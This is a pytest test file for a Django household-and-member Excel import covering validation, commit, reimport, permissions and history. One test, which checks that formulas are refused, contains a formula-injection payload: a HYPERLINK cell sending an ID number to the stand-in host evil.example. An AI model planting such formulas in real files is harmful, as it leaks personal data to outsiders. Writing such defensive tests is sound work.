"""Excel import of households and members (docs/import-template.md): validate every row, preview, commit all or
nothing, idempotent by 户编号 and ID number; duplicates are reported, never merged."""

import dataclasses
import datetime
import gc
import io
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.roles import Role
from core.errors import TransitionNotAllowed
from core.uploads import UploadRefused
from households import idnumbers
from households.choices import (
    Gender,
    HouseholdFlagKind,
    ImportJobStatus,
    ImportKind,
    LifeEventKind,
    MemberStatus,
    Relationship,
)
from households.imports import reading, services
from households.imports.columns import BY_KEY, COLUMNS, FORMULA_REFUSED, CellError, read_cell
from households.imports.reading import read_workbook
from households.imports.services import (
    import_job_commit_request,
    import_job_create,
)
from households.models import Household, HouseholdEvent, HouseholdFlag, HouseholdMember, ImportJob
from households.tasks import household_import_task
from sweeps.models import Problem
from tests.factories import HouseholdFactory, MemberFactory, TownshipFactory, UserFactory, VillageFactory
from tests.office import soffice_convert

pytestmark = pytest.mark.django_db

HEADERS = [column.header for column in COLUMNS]
AREA6 = "640381"  # ID numbers of this file's people; the shared factories use 640324, so numbers never collide
S = ImportJobStatus


# ---------------------------------------------------------------------------------------------------------- helpers


class People:
    """Valid, distinct ID numbers: a birth date per 900 people, a sequence within it."""

    def __init__(self) -> None:
        self.count = 0

    def next(self, *, male: bool = True, born: datetime.date | None = None) -> str:
        self.count += 1
        birth = born or datetime.date(1950, 1, 1) + datetime.timedelta(days=self.count // 450)
        return idnumbers.build(AREA6, birth, (self.count % 450) * 2, male=male)


def member(household_no, village, id_number, *, name="张三", relationship="户主", **cells):
    row = {
        "户编号": household_no,
        "村代码": village.code,
        "住址": "一组 1 号",
        "联系电话": "13912345678",
        "姓名": name,
        "身份证号": id_number,
        "与户主关系": relationship,
        "民族": "汉族",
        "健康状况": "健康",
        "劳动能力": "普通劳动力",
        "在校生状况": "已离校",
        "参加基本医疗保险": "是",
        "成员状态": "在户",
        "脱贫户": "否",
        "低保户": "否",
        "特困供养户": "否",
    }
    row.update(cells)
    return row


def family(household_no, village, people, size=4, **household_cells):
    """A head, a spouse and children; the household columns repeat on every row."""
    rows = [member(household_no, village, people.next(), name=f"户主{household_no}", **household_cells)]
    relations = ["配偶", "之子", "之女", "之父", "之母"]
    for index in range(size - 1):
        relationship = relations[index % len(relations)]
        male = relationship in ("之子", "之父")
        rows.append(
            member(
                household_no,
                village,
                people.next(male=male),
                name=f"成员{household_no}-{index}",
                relationship=relationship,
                **household_cells,
            )
        )
    return rows


def xlsx(rows, headers=HEADERS) -> bytes:
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("农户成员")
    sheet.append(headers)
    for row in rows:
        sheet.append([row.get(header) for header in headers])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def people():
    return People()


@pytest.fixture
def township():
    return TownshipFactory()


@pytest.fixture
def village(township):
    return VillageFactory(parent=township)


@pytest.fixture
def worker(village):
    return UserFactory(roles=[Role.VILLAGE_WORKER], area=village)


@pytest.fixture
def cadre(township):
    """A township cadre: imports into any village of the township."""
    return UserFactory(roles=[Role.TOWNSHIP_CADRE], area=township)


@pytest.fixture
def upload(django_capture_on_commit_callbacks):
    """Upload as the view does, then run the one task the upload scheduled, as the worker would."""

    def run(user, content, *, area=None, name="农户.xlsx"):
        with django_capture_on_commit_callbacks() as callbacks:
            job = import_job_create(actor=user, upload=SimpleUploadedFile(name, content), area=area)
        assert len(callbacks) == 1
        household_import_task(job.pk)
        job.refresh_from_db()
        return job

    return run


@pytest.fixture
def commit(django_capture_on_commit_callbacks):
    def run(job, user):
        with django_capture_on_commit_callbacks() as callbacks:
            import_job_commit_request(job=job, actor=user)
        assert len(callbacks) == 1
        household_import_task(job.pk)
        job.refresh_from_db()
        return job

    return run


def messages_of(job):
    return [f"第 {e['row']} 行“{e['column']}”：{e['message']}" for e in job.errors]


def history_rows():
    return (
        Household.history.count(),  # type: ignore[attr-defined]
        HouseholdMember.history.count(),  # type: ignore[attr-defined]
        HouseholdFlag.history.count(),  # type: ignore[attr-defined]
    )


# ------------------------------------------------------------------------------------------------------ behaviours


def test_a_clean_file_imports_households_members_heads_and_flags(worker, village, people, upload, commit):
    # given: three households, one an exited-poor household with a subsistence allowance, one with a hukou village
    other_village = VillageFactory(parent=village.parent)
    rows = [
        *family("H001", village, people, 4, 脱贫户="是", 低保户="是", 脱贫年度=2019),
        *family("H002", village, people, 2, 户籍地代码=other_village.code),
        *family("H003", village, people, 1, 联系电话=""),
    ]

    # when
    job = upload(worker, xlsx(rows))
    assert job.status == S.VALIDATED, messages_of(job)
    assert job.summary["households_created"] == 3
    assert job.summary["members_created"] == 7
    assert Household.objects.count() == 0  # validation writes nothing
    job = commit(job, worker)

    # then
    assert job.status == S.COMMITTED
    assert job.summary["households_created"] == 3
    first = Household.objects.get(household_no="H001")
    assert first.head_name == "户主H001" == first.head.name
    assert first.head.relationship == Relationship.HEAD
    assert first.managing_area == first.residence_area == village
    assert first.members.count() == 4
    assert first.exit_year == 2019
    flags = {f.kind: f.valid_from for f in HouseholdFlag.objects.filter(household=first, valid_to__isnull=True)}
    assert flags[HouseholdFlagKind.EXITED_POOR] == datetime.date(2019, 1, 1)
    assert HouseholdFlagKind.SUBSISTENCE_ALLOWANCE in flags
    assert HouseholdFlagKind.DESTITUTE_SUPPORT not in flags
    spouse = first.members.get(relationship=Relationship.SPOUSE)
    facts = idnumbers.parse(spouse.id_number)
    assert (spouse.birth_date, spouse.gender) == (facts.birth_date, Gender.FEMALE)  # from the ID, not the file
    second = Household.objects.get(household_no="H002")
    assert second.hukou_area == second.co_managing_area == other_village  # dual management
    assert second.hukou_residence_split
    assert Household.objects.get(household_no="H003").phone == ""
    creation = first.history.get()
    assert (creation.history_type, creation.history_user, creation.head_id) == ("+", worker, first.head_id)
    assert creation.history_change_reason == "Excel 导入"
    assert first.created_at is not None
    assert first.updated_at is not None
    member = first.head.history.get()  # every written row has its history, by the worker, with the reason
    assert (member.history_type, member.history_user, member.history_change_reason) == ("+", worker, "Excel 导入")
    assert (member.name, member.id_number, member.household_id) == (first.head.name, first.head.id_number, first.pk)
    exited = HouseholdFlag.objects.get(household=first, kind=HouseholdFlagKind.EXITED_POOR).history.get()
    assert (exited.history_type, exited.valid_from) == ("+", datetime.date(2019, 1, 1))


@pytest.mark.services
def test_a_committed_file_leaves_the_planner_the_numbers_of_its_rows(
    worker, village, people, upload, django_capture_on_commit_callbacks
):
    """A county's file adds tens of thousands of households where autovacuum waits for a tenth of the table to
    change: the commit brings the statistics of the tables it wrote up to date, so the lists are planned on them."""
    with connection.cursor() as cursor:
        cursor.execute("ANALYZE households_household, households_householdmember")  # empty, as before the file
    job = upload(worker, xlsx([*family("H001", village, people, 4), *family("H002", village, people, 2)]))
    with django_capture_on_commit_callbacks():
        import_job_commit_request(job=job, actor=worker)
    with django_capture_on_commit_callbacks(execute=True):  # the worker's commit, and what runs after it
        household_import_task(job.pk)
    job.refresh_from_db()
    assert job.status == S.COMMITTED

    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT relname, reltuples FROM pg_class WHERE relname IN ('households_household', "
            "'households_householdmember')"
        )
        counted = dict(cursor.fetchall())
    assert counted == {"households_household": 2, "households_householdmember": 6}


def test_one_bad_id_among_1000_rows_saves_nothing_and_names_the_row_and_column(worker, village, people, upload):
    # given: 250 households of 4, and one check digit wrong on Excel row 618 (row 1 is the header)
    rows = [row for n in range(250) for row in family(f"B{n:04d}", village, people, 4)]
    assert len(rows) == 1000
    good = rows[616]["身份证号"]
    rows[616]["身份证号"] = good[:17] + ("0" if good[17] != "0" else "1")

    # when
    job = upload(worker, xlsx(rows))

    # then
    assert job.status == S.INVALID
    assert messages_of(job) == ["第 618 行“身份证号”：身份证号校验位错误，请核对号码"]
    assert job.summary["error_count"] == 1
    assert Household.objects.count() == HouseholdMember.objects.count() == 0
    with pytest.raises(TransitionNotAllowed):
        import_job_commit_request(job=job, actor=worker)


def test_a_commit_that_finds_a_new_conflict_saves_nothing(worker, village, people, upload, commit):
    # given: a valid preview, then someone registers one of the file's people in another household
    rows = [row for n in range(20) for row in family(f"C{n:03d}", village, people, 3)]
    job = upload(worker, xlsx(rows))
    assert job.status == S.VALIDATED
    other = HouseholdFactory(managing_area=village, household_no="OTHER-1")
    MemberFactory(household=other, id_number=rows[40]["身份证号"])

    # when
    job = commit(job, worker)

    # then: the whole file is refused, not the 13 households before the conflict
    assert job.status == S.INVALID
    assert messages_of(job) == ["第 42 行“身份证号”：该身份证号已在户 OTHER-1 登记为在户成员，不能重复登记"]
    assert Household.objects.count() == 1
    assert gc.isenabled()  # the collector, paused for each bucket, runs again after a refused one


def test_a_person_registered_between_the_commits_checks_and_its_writes_fails_the_job_and_saves_nothing(
    worker, village, people, upload, commit, monkeypatch
):
    # given: a valid preview; someone else registers one of the file's people after the commit has checked them,
    # just before its rows are written (the unique constraint of present members is the last guard)
    rows = [row for n in range(5) for row in family(f"R{n:03d}", village, people, 3)]
    job = upload(worker, xlsx(rows))
    assert job.status == S.VALIDATED
    format_ = services.FORMATS[ImportKind.HOUSEHOLDS]

    def apply_after_a_rival(plan, *, actor):  # the file's buckets are planned and written one after another
        if any(member.id_number == rows[7]["身份证号"] for member in plan.new_members):  # that person's bucket
            other = HouseholdFactory(managing_area=village, household_no="RIVAL-1")
            MemberFactory(household=other, id_number=rows[7]["身份证号"])
        format_.apply(plan, actor=actor)

    monkeypatch.setitem(
        services.FORMATS, ImportKind.HOUSEHOLDS, dataclasses.replace(format_, apply=apply_after_a_rival)
    )

    # when
    job = commit(job, worker)

    # then: the job fails in words, and nothing of the file was kept (the rival's own household was rolled back too)
    assert job.status == S.FAILED
    assert [(error["row"], error["message"]) for error in job.errors] == [
        (None, "保存时与他人同时进行的修改冲突，未保存任何数据；请重新上传该文件")
    ]
    assert not Household.objects.filter(household_no__startswith="R00").exists()


def test_progress_is_written_at_most_twice_a_second_and_at_the_end(worker, village, people, upload, monkeypatch):
    # given: a file of 1,000 member rows read while the clock stands still (the reader reports every 200 rows)
    rows = [row for n in range(250) for row in family(f"P{n:03d}", village, people, 4)]
    monkeypatch.setattr(reading, "monotonic", lambda: 1000.0)

    # when
    with CaptureQueriesContext(connection) as queries:
        job = upload(worker, xlsx(rows))

    # then: the first report is written, the next four within the same half second are not, the end is
    written = [
        query["sql"]
        for query in queries
        if query["sql"].startswith('UPDATE "households_importjob" SET "processed_rows"')
    ]
    assert [sql.split('"processed_rows" = ')[1].split(",")[0] for sql in written] == ["200", "1000"]
    assert (job.status, job.processed_rows, job.total_rows) == (S.VALIDATED, 1000, 1000)


def test_reimporting_the_same_file_changes_nothing(worker, village, people, upload, commit):
    rows = [row for n in range(30) for row in family(f"R{n:03d}", village, people, 3, 低保户="是")]
    content = xlsx(rows)
    commit(upload(worker, content), worker)
    before = (Household.objects.count(), HouseholdMember.objects.count(), HouseholdFlag.objects.count())
    snapshot = list(HouseholdMember.objects.order_by("pk").values())
    histories = history_rows()

    job = upload(worker, content)
    assert job.summary["households_unchanged"] == 30
    job = commit(job, worker)

    assert job.status == S.COMMITTED
    assert job.summary == {
        "households_created": 0,
        "households_updated": 0,
        "households_unchanged": 30,
        "members_created": 0,
        "members_updated": 0,
        "members_unchanged": 90,
        "flags_opened": 0,
        "flags_closed": 0,
        "error_count": 0,
    }
    assert (Household.objects.count(), HouseholdMember.objects.count(), HouseholdFlag.objects.count()) == before
    assert list(HouseholdMember.objects.order_by("pk").values()) == snapshot
    assert history_rows() == histories


def test_a_changed_phone_updates_exactly_that_household_with_history(worker, village, people, upload, commit):
    rows = [row for n in range(5) for row in family(f"P{n:03d}", village, people, 3)]
    commit(upload(worker, xlsx(rows)), worker)
    updated_at = dict(Household.objects.values_list("household_no", "updated_at"))
    histories = history_rows()
    for row in rows:
        if row["户编号"] == "P002":
            row["联系电话"] = "13800000002"

    job = commit(upload(worker, xlsx(rows)), worker)

    assert (job.summary["households_updated"], job.summary["households_unchanged"]) == (1, 4)
    assert job.summary["members_unchanged"] == 15
    changed = Household.objects.get(household_no="P002")
    assert changed.phone == "13800000002"
    latest = changed.history.first()
    assert (latest.history_type, latest.history_user, latest.history_change_reason) == ("~", worker, "Excel 导入")
    assert latest.prev_record.phone == "13912345678"
    assert history_rows() == (histories[0] + 1, histories[1], histories[2])
    for number, stamp in Household.objects.exclude(household_no="P002").values_list("household_no", "updated_at"):
        assert stamp == updated_at[number]


def test_reimport_updates_members_adds_new_ones_and_closes_flags(worker, village, people, upload, commit):
    rows = family("U001", village, people, 3, 低保户="是")
    commit(upload(worker, xlsx(rows)), worker)
    rows[2].update({"健康状况": "大病重病", "成员状态": "死亡"})
    rows.append(member("U001", village, people.next(), name="新生儿", relationship="之孙子", 在校生状况="未到学龄"))
    for row in rows:
        row["低保户"] = "否"

    job = commit(upload(worker, xlsx(rows)), worker)

    assert job.status == S.COMMITTED, messages_of(job)
    assert (job.summary["members_created"], job.summary["members_updated"], job.summary["members_unchanged"]) == (
        1,
        1,
        2,
    )
    assert job.summary["flags_closed"] == 1
    deceased = HouseholdMember.objects.get(id_number=rows[2]["身份证号"])
    assert (deceased.member_status, deceased.status_changed_on) == (MemberStatus.DECEASED, timezone.localdate())
    assert deceased.history.first().history_change_reason == "Excel 导入"
    assert not HouseholdFlag.objects.filter(valid_to__isnull=True).exists()


def test_a_reimport_that_makes_the_spouse_head_repoints_the_household_and_keeps_both_members(
    worker, village, people, upload, commit
):
    rows = family("R001", village, people, 3)
    commit(upload(worker, xlsx(rows)), worker)
    household = Household.objects.get(household_no="R001")
    old_head, spouse = household.head, HouseholdMember.objects.get(id_number=rows[1]["身份证号"])
    rows[0]["与户主关系"], rows[1]["与户主关系"] = "配偶", "户主"

    job = commit(upload(worker, xlsx(rows)), worker)

    assert job.status == S.COMMITTED, messages_of(job)
    assert (job.summary["households_updated"], job.summary["members_updated"], job.summary["members_unchanged"]) == (
        1,
        2,
        1,
    )
    household.refresh_from_db()
    assert (household.head_id, household.head_name) == (spouse.pk, spouse.name)
    assert HouseholdMember.objects.filter(household=household).count() == 3  # the same members, re-labelled
    old_head.refresh_from_db()
    assert old_head.relationship == Relationship.SPOUSE
    latest = household.history.first()
    assert (latest.head_id, latest.prev_record.head_id) == (spouse.pk, old_head.pk)
    assert spouse.history.first().relationship == Relationship.HEAD


def test_duplicates_in_the_file_and_in_another_household_are_reported_not_merged(worker, village, people, upload):
    # given: one person twice in the file, and one already present in a household of the database
    registered = MemberFactory(household=HouseholdFactory(managing_area=village, household_no="DB-1"))
    first = family("D001", village, people, 2)
    second = family("D002", village, people, 2)
    second[1]["身份证号"] = first[1]["身份证号"]
    third = family("D003", village, people, 2)
    third[1]["身份证号"] = registered.id_number

    # when
    job = upload(worker, xlsx([*first, *second, *third]))

    # then
    assert job.status == S.INVALID
    assert messages_of(job) == [
        "第 5 行“身份证号”：与第 3 行的身份证号重复",
        "第 7 行“身份证号”：该身份证号已在户 DB-1 登记为在户成员，不能重复登记",
    ]
    assert HouseholdMember.objects.filter(id_number=registered.id_number).count() == 1


def test_household_columns_must_agree_and_each_household_needs_one_present_head(worker, village, people, upload):
    other = VillageFactory(parent=village.parent)
    worker.area = village.parent  # a township cadre's reach, so both villages are importable
    worker.save()
    rows = family("A001", village, people, 3)
    rows[2]["村代码"] = other.code
    two_heads = family("A002", village, people, 2)
    two_heads[1]["与户主关系"] = "户主"
    no_head = family("A003", village, people, 2)
    no_head[0]["与户主关系"] = "配偶"
    gone_head = family("A004", village, people, 1, 成员状态="死亡")

    job = upload(worker, xlsx([*rows, *two_heads, *no_head, *gone_head]))

    assert messages_of(job) == [
        f"第 4 行“村代码”：与第 2 行不一致：同一户编号“A001”的“村代码”分别为“{village.code}”和“{other.code}”",
        "第 6 行“与户主关系”：户编号“A002”有 2 名户主（另见第 5 行）",
        "第 7 行“与户主关系”：户编号“A003”没有户主（第 7、8 行）",
        "第 9 行“成员状态”：户主须为在户成员",
    ]


def test_every_cell_error_is_collected_in_chinese(worker, village, people, upload):
    rows = family("E001", village, people, 2)
    rows[0].update({"联系电话": "1391234", "劳动能力": "很强", "残疾等级": "5", "参加基本医疗保险": "也许"})
    rows[1].update({"姓名": "", "村代码": "6403"})

    job = upload(worker, xlsx(rows))

    assert job.summary["error_count"] == 6
    assert messages_of(job) == [
        "第 2 行“联系电话”：“1391234”应为 11 位数字",
        (
            "第 2 行“劳动能力”：“很强”不是可选值，可填：技能劳动力、普通劳动力、弱劳动力/部分丧失劳动能力、"
            "完全丧失劳动能力、无劳动力"
        ),
        "第 2 行“残疾等级”：“5”应为 1–4 级，无残疾留空",
        "第 2 行“参加基本医疗保险”：“也许”应填“是”或“否”",
        "第 3 行“村代码”：“6403”不是 12 位数字的统计用区划代码",
        "第 3 行“姓名”：不能为空",
    ]


def test_a_wrong_value_repeated_on_many_rows_is_reported_on_each_and_cells_alike_but_of_other_types_read_apart(
    worker, village, people, upload
):
    # given: the same wrong labour capacity on three rows; a disability grade of 1, then a yes (TRUE) where a grade
    # belongs (the reader remembers what a cell of such a column reads as, by its type too: True == 1 in Python)
    rows = family("W001", village, people, 4)
    for row in rows[1:]:
        row["劳动能力"] = "很强"
    rows[0]["残疾等级"], rows[1]["残疾等级"] = 1, True

    job = upload(worker, xlsx(rows))

    wrong_labour = (
        "“很强”不是可选值，可填：技能劳动力、普通劳动力、弱劳动力/部分丧失劳动能力、完全丧失劳动能力、无劳动力"
    )
    assert messages_of(job) == [
        f"第 3 行“劳动能力”：{wrong_labour}",
        "第 3 行“残疾等级”：“是”应为 1–4 级，无残疾留空",
        f"第 4 行“劳动能力”：{wrong_labour}",
        f"第 5 行“劳动能力”：{wrong_labour}",
    ]


def test_formulas_and_text_typed_as_formulas_are_refused_naming_row_and_column(worker, village, people, upload):
    """A live formula (=HYPERLINK that would send an ID number away) and text starting with "=" are refused; the
    file saves nothing. Text that merely starts with "-" or "+" is data: the ledgers write it inert."""
    rows = family("F001", village, people, 2)
    rows[0]["住址"] = '=HYPERLINK("http://evil.example/?id="&G2,"详情")'  # openpyxl writes it as a formula
    rows[1]["民族"] = "=1+1"

    job = upload(worker, xlsx(rows))

    assert job.status == S.INVALID
    assert messages_of(job) == [
        f"第 2 行“住址”：{FORMULA_REFUSED}",
        f"第 3 行“民族”：{FORMULA_REFUSED}",
    ]
    assert not Household.objects.filter(household_no="F001").exists()


def test_codes_numbers_and_apostrophes_are_accepted_where_excel_puts_them(worker, village, people, upload, commit):
    # given: enum codes instead of labels, an apostrophe-prefixed lower-case ID, numeric codes, a "二级" grade
    rows = family("N001", village, people, 3)
    rows[0].update({"与户主关系": "head", "劳动能力": "skilled", "村代码": int(village.code), "联系电话": 13912345678})
    rows[2].update({"身份证号": "'" + rows[2]["身份证号"].lower(), "残疾等级": "二级", "与户主关系": "儿子"})

    job = upload(worker, xlsx(rows))
    assert job.status == S.VALIDATED, messages_of(job)
    job = commit(job, worker)

    assert job.status == S.COMMITTED, messages_of(job)
    household = Household.objects.get(household_no="N001")
    assert household.head.labour_capacity == "skilled"
    assert household.members.get(relationship=Relationship.SON).disability_grade == 2


def test_id_numbers_stored_as_numbers_are_accepted_when_all_18_digits_survive():
    # An int: a writer that kept every digit. A float with 17 significant digits: the exact double of the number.
    candidates = (
        idnumbers.build(AREA6, datetime.date(1990, 1, day), seq, male=True)
        for day in range(1, 29)
        for seq in range(0, 1996, 2)
    )
    exact = next(n for n in candidates if n[-1] != "X" and float(int(n)) == int(n))
    assert read_cell(BY_KEY["id_number"], int(exact)) == exact
    assert read_cell(BY_KEY["id_number"], float(exact)) == exact
    # What Excel and openpyxl write for an 18-digit number: 15 significant digits, the rest lost.
    with pytest.raises(CellError, match="只保留 15 位有效数字"):
        read_cell(BY_KEY["id_number"], float(f"{float(exact):.14e}"))


def test_an_id_number_that_excel_turned_into_a_float_is_refused_with_a_hint(worker, village, people, upload):
    rows = family("F001", village, people, 1)
    rows[0]["身份证号"] = float(rows[0]["身份证号"][:15] + "000")  # what Excel keeps of an 18-digit number

    job = upload(worker, xlsx(rows))

    assert messages_of(job) == [
        (
            "第 2 行“身份证号”：身份证号以数字格式保存，Excel 只保留 15 位有效数字，号码已失真；"
            "请将此列设为“文本”格式后重新填写"
        )
    ]


def test_a_file_with_only_the_required_columns_imports_and_a_reimport_leaves_other_fields(
    worker, village, people, upload, commit
):
    required = ["户编号", "村代码", "姓名", "身份证号", "与户主关系", "劳动能力", "在校生状况"]
    rows = family("O001", village, people, 2)
    job = commit(upload(worker, xlsx(rows, headers=required)), worker)
    assert job.status == S.COMMITTED, messages_of(job)
    Household.objects.filter(household_no="O001").update(phone="13700000000")

    job = commit(upload(worker, xlsx(rows, headers=required)), worker)

    assert job.summary["households_unchanged"] == 1
    assert Household.objects.get(household_no="O001").phone == "13700000000"  # no 联系电话 column: kept


def test_a_file_that_is_not_a_workbook_is_refused_at_upload_with_one_message(worker):
    """The zip directory is read before the file is stored: a broken workbook never becomes a job."""
    with pytest.raises(UploadRefused) as refused:
        import_job_create(actor=worker, upload=SimpleUploadedFile("农户.xlsx", b"PK\x03\x04 a zip header only"))
    assert refused.value.message == "文件无法读取：请上传用 Excel、WPS 或 LibreOffice 保存的 .xlsx 文件"
    assert not ImportJob.objects.exists()


def test_a_missing_required_column_is_reported_on_the_header_row(worker, village, people, upload):
    headers = [h for h in HEADERS if h != "劳动能力"]
    job = upload(worker, xlsx(family("M001", village, people, 1), headers=headers))
    assert messages_of(job) == ["第 1 行“劳动能力”：缺少必填列；请使用导入模板，第 1 行为列标题"]


def test_villages_outside_the_jurisdiction_are_errors(worker, village, people, upload):
    # given: a sibling village of the same township, and a village of another county
    sibling = VillageFactory(parent=village.parent)
    foreign = VillageFactory()
    rows = [
        *family("J001", village, people, 1),
        *family("J002", sibling, people, 1),
        *family("J003", foreign, people, 1),
    ]

    job = upload(worker, xlsx(rows))

    assert messages_of(job) == [
        f"第 3 行“村代码”：“{sibling.code}”不是您本次导入范围内的行政村",
        f"第 4 行“村代码”：“{foreign.code}”不是您本次导入范围内的行政村",
    ]


def test_a_township_cadre_imports_into_the_townships_villages_and_a_chosen_village_narrows_it(
    cadre, township, village, people, upload, commit
):
    sibling = VillageFactory(parent=township)
    rows = [*family("T001", village, people, 2), *family("T002", sibling, people, 2)]

    assert upload(cadre, xlsx(rows), area=village).status == S.INVALID  # T002 is not in the chosen village
    job = commit(upload(cadre, xlsx(rows)), cadre)

    assert job.status == S.COMMITTED
    assert set(Household.objects.values_list("managing_area", flat=True)) == {village.pk, sibling.pk}


def test_a_household_the_file_moves_to_another_village_is_transferred_with_its_open_problems(
    cadre, township, village, people, upload, commit
):
    # given: a household of the village, imported, with an open problem found in its village
    sibling = VillageFactory(parent=township)
    rows = family("M001", village, people, 2)
    commit(upload(cadre, xlsx(rows)), cadre)
    household = Household.objects.get(household_no="M001")
    problem = Problem.objects.create(
        rule_id="FC-GAP-MISSED-MGMT-01", rule_version=1, category="gap_filling", title="漏管", subject_kind="household",
        subject_key=f"household:{household.pk}", household=household, area=village, township=township,
        area_code=village.code, detected_on=datetime.date(2026, 11, 1), last_seen_on=datetime.date(2026, 11, 1),
        deadline=datetime.date(2026, 12, 1),
    )  # fmt: skip

    # when: the township's next file has it in the sibling village
    for row in rows:
        row["村代码"] = sibling.code
    job = commit(upload(cadre, xlsx(rows)), cadre)

    # then: moved, with a transfer and a residence change on record, and its open problem in its new village
    assert job.status == S.COMMITTED
    household.refresh_from_db()
    assert household.managing_area == household.residence_area == sibling
    events = HouseholdEvent.objects.filter(household=household)
    assert {(e.kind, e.area_field, e.from_area_id, e.to_area_id, e.reason, e.actor_id) for e in events} == {
        (LifeEventKind.TRANSFER, "managing_area", village.pk, sibling.pk, "Excel 导入", cadre.pk),
        (LifeEventKind.AREA_CHANGE, "residence_area", village.pk, sibling.pk, "Excel 导入", cadre.pk),
    }
    problem.refresh_from_db()
    assert (problem.area_id, problem.area_code) == (sibling.pk, sibling.code)
    # and a file that moves nothing records nothing
    commit(upload(cadre, xlsx(rows)), cadre)
    assert HouseholdEvent.objects.filter(household=household).count() == 2


def test_a_hukou_the_file_codes_anew_is_an_area_change_that_keeps_the_uncoded_hukou_text(
    cadre, township, village, people, upload, commit
):
    # given: a registered household whose hukou lay outside the system's areas, written as text
    home = VillageFactory(parent=township)
    rows = family("K001", village, people, 2)
    commit(upload(cadre, xlsx(rows)), cadre)
    Household.objects.filter(household_no="K001").update(hukou_area_text="外省某县某村")

    # when: the file codes the hukou as another village of the township
    for row in rows:
        row["户籍地代码"] = home.code
    job = commit(upload(cadre, xlsx(rows)), cadre)

    # then: hukou and co-management change, each an area change; the hukou's event keeps the text it was shown by
    assert job.status == S.COMMITTED
    household = Household.objects.get(household_no="K001")
    assert household.hukou_area == household.co_managing_area == home
    events = {e.area_field: e for e in HouseholdEvent.objects.filter(household=household)}
    assert set(events) == {"hukou_area", "co_managing_area"}
    assert {e.kind for e in events.values()} == {LifeEventKind.AREA_CHANGE}
    hukou = events["hukou_area"]
    assert (hukou.from_area_id, hukou.to_area_id, hukou.from_text) == (None, home.pk, "外省某县某村")
    assert (events["co_managing_area"].from_area_id, events["co_managing_area"].from_text) == (None, "")


def test_a_household_number_registered_outside_the_users_reach_is_not_touched(worker, village, people, upload):
    HouseholdFactory(household_no="X001", managing_area=VillageFactory(), phone="13100000000")
    job = upload(worker, xlsx(family("X001", village, people, 1)))
    assert messages_of(job) == ["第 2 行“户编号”：该户编号已在本次导入范围以外登记，不能在此导入或修改"]
    assert Household.objects.get(household_no="X001").phone == "13100000000"


def test_uploads_must_be_small_xlsx_files(worker, client):
    client.force_login(worker)
    url = reverse("households:household-import-upload")
    for name, content, message in [
        ("农户.xls", b"PK\x03\x04", "请上传 .xlsx 格式的 Excel 文件"),
        ("农户.xlsx", b"not a zip", "文件内容不是 .xlsx 工作簿"),
        ("农户.xlsx", b"PK\x03\x04" + b"0" * settings.XLSX_MAX_BYTES, "文件不能超过 20 MB"),
    ]:
        response = client.post(url, {"file": SimpleUploadedFile(name, content), "area": worker.area_id})
        assert response.status_code == 200
        assert message in response.content.decode()
    assert not ImportJob.objects.exists()


def test_a_reporting_officer_gets_403_and_foreign_jobs_are_404(worker, village, people, upload, client):
    job = upload(worker, xlsx(family("Q001", village, people, 1)))
    officer = UserFactory(roles=[Role.REPORTING_OFFICER], area=village)
    colleague = UserFactory(roles=[Role.VILLAGE_WORKER], area=village)

    client.force_login(officer)
    assert client.get(reverse("households:household-import-upload")).status_code == 403
    assert client.post(reverse("households:household-import-upload"), {}).status_code == 403
    client.force_login(colleague)  # same village: a job is its uploader's only, as if it did not exist
    assert client.get(reverse("households:household-import-detail", args=[job.pk])).status_code == 404
    assert client.get(reverse("households:household-import-progress", args=[job.pk])).status_code == 404
    assert client.post(reverse("households:household-import-commit", args=[job.pk])).status_code == 404
    client.force_login(UserFactory(roles=[Role.VILLAGE_WORKER], area=VillageFactory(parent=village.parent)))
    assert client.get(reverse("households:household-import-detail", args=[job.pk])).status_code == 404
    assert client.post(reverse("households:household-import-commit", args=[job.pk])).status_code == 404
    job.refresh_from_db()
    assert job.status == S.VALIDATED


def test_upload_preview_and_commit_over_http(worker, village, people, client, django_capture_on_commit_callbacks):
    client.force_login(worker)
    rows = [row for n in range(3) for row in family(f"W{n:03d}", village, people, 2)]

    # upload: the page schedules validation and sends the user to the job
    with django_capture_on_commit_callbacks() as callbacks:
        response = client.post(
            reverse("households:household-import-upload"),
            {"file": SimpleUploadedFile("村里.xlsx", xlsx(rows)), "area": village.pk},
        )
    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("households:household-import-detail", args=[job.pk])
    assert (job.created_by, job.area, job.original_name, job.status) == (worker, village, "村里.xlsx", S.UPLOADED)
    progress_url = reverse("households:household-import-progress", args=[job.pk])
    progress = client.get(progress_url, HTTP_HX_REQUEST="true")
    assert 'hx-trigger="every 1s"' in progress.content.decode()
    assert "HX-Refresh" not in progress

    assert len(callbacks) == 1
    household_import_task(job.pk)  # what the worker runs
    progress = client.get(progress_url, HTTP_HX_REQUEST="true")
    assert progress["HX-Refresh"] == "true"

    # preview
    detail_url = reverse("households:household-import-detail", args=[job.pk])
    page = client.get(detail_url).content.decode()
    assert "校验通过" in page
    assert "确认导入" in page
    assert "<th>农户</th><td>3</td><td>0</td><td>0</td>" in page

    # commit
    with django_capture_on_commit_callbacks() as callbacks:
        response = client.post(reverse("households:household-import-commit", args=[job.pk]))
    assert response.status_code == 302
    assert len(callbacks) == 1
    household_import_task(job.pk)
    page = client.get(detail_url).content.decode()
    assert "导入完成" in page
    assert Household.objects.count() == 3
    assert "村里.xlsx" in client.get(reverse("households:household-import-upload")).content.decode()

    # a second click on the same preview is refused, not run twice
    response = client.post(reverse("households:household-import-commit", args=[job.pk]), follow=True)
    assert "不能变为" in response.content.decode()


def test_an_invalid_file_shows_the_error_table(worker, village, people, client, django_capture_on_commit_callbacks):
    client.force_login(worker)
    rows = family("V001", village, people, 2)
    rows[1]["在校生状况"] = "放羊"
    with django_capture_on_commit_callbacks():
        client.post(reverse("households:household-import-upload"), {"file": SimpleUploadedFile("a.xlsx", xlsx(rows))})
    job = ImportJob.objects.get()
    household_import_task(job.pk)
    page = client.get(reverse("households:household-import-detail", args=[job.pk])).content.decode()
    assert "发现 1 处错误，未保存任何数据" in page
    assert "第 3 行" in page
    assert "“放羊”不是可选值" in page
    assert "确认导入" not in page


